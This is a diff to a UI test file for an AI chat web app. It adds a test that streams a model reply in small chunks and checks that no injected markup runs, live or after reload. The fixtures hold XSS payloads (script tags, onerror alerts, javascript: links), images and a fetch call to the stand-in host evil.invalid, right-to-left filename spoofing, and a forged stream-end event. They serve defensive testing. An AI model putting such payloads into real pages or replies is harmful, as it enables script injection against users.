@@ -2,12 +2,17 @@
 // the page ask anybody else for anything (tables, titles, tool output and queue entries as well).
 import type { Page } from 'playwright-core';
 import { expect, it } from 'vitest';
+import { chunk, createEndpoint, DONE, STOP, STREAM_HEADERS } from '../agents/endpoint.ts';
+import { createClient } from '../support/client.ts';
+import { startTestServer } from '../support/server.ts';
 import { becomes } from './eventually.ts';
 import { activeStream, badge, button, message, send, settled, transcript } from './names.ts';
 import { visits } from './visit.ts';
 
 const visit = visits();
 
+/** Letters in one frame of a model that streams. */
+const CRUMB_LENGTH = 5;
 const RUN = "globalThis.pwned=(globalThis.pwned??0)+1;fetch('http://evil.invalid/')";
 /** Everything that has run somewhere before. */
 const HOSTILE = [
@@ -43,6 +48,8 @@ const HOSTILE = [
   '<div id="root"></div><div id="transcript" name="app">clobber</div>',
   '\u001b[31mred\u001b[0m \u202Etxt.exe\u202C \u0000',
   'event: stream_end\ndata: {"terminal_state":"completed"}\n\n',
+  // One paragraph: while it streams, all of it is the live tail.
+  '[live](javascript:alert(1)) ![live](http://evil.invalid/live.png) <img src="http://evil.invalid/x"> last words',
 ].join('\n\n');
 
 const TITLE = '<img src=x onerror=alert(1)> "><script>alert(2)</script> title';
@@ -128,6 +135,47 @@ it('ui a hostile message that is sent, queued, titled, kept as a draft and copie
   await button(page, 'Stop').click();
   await settled(page, 'cancelled');
   await harmless(page);
+});
+
+it('ui hostile text of a model does nothing while it streams, and nothing when it is settled', async () => {
+  let finish = (): void => {};
+  const endpoint = await createEndpoint(async (response, _request, nth) => {
+    response.writeHead(200, STREAM_HEADERS);
+    // The second question is for a title.
+    if (nth > 1) return void response.end(chunk({ content: TITLE }) + STOP + DONE);
+    // In crumbs, so that every piece of markup is seen half.
+    for (let at = 0; at < HOSTILE.length; at += CRUMB_LENGTH) {
+      response.write(chunk({ content: HOSTILE.slice(at, at + CRUMB_LENGTH) }));
+      await new Promise(setImmediate);
+    }
+    await new Promise<void>((resolve) => {
+      finish = resolve;
+    });
+    response.end(STOP + DONE);
+  });
+  const openai = { base_url: endpoint.base_url, api_key: 'sk-test', model: 'test' };
+  const server = await startTestServer({ agent: 'openai', openai });
+  try {
+    const session_id = await createClient(server.url).session();
+    const person = await visit.person({ baseURL: server.url });
+    const page = await visit.tab(session_id, person);
+    await send(page, 'Say it all.');
+    await transcript(page).getByText('last words').waitFor();
+    await badge(page).and(page.locator('[data-run-state="running"]')).waitFor();
+    await harmless(page);
+    const reloaded = await visit.tab(session_id, person);
+    await transcript(reloaded).getByText('last words').waitFor();
+    await harmless(reloaded);
+    finish();
+    for (const tab of [page, reloaded]) {
+      await settled(tab, 'completed');
+      await harmless(tab);
+    }
+  } finally {
+    finish();
+    await server.close();
+    await endpoint.close();
+  }
 });
 
 it('ui an address that is no session says so, and runs nothing', async () => {
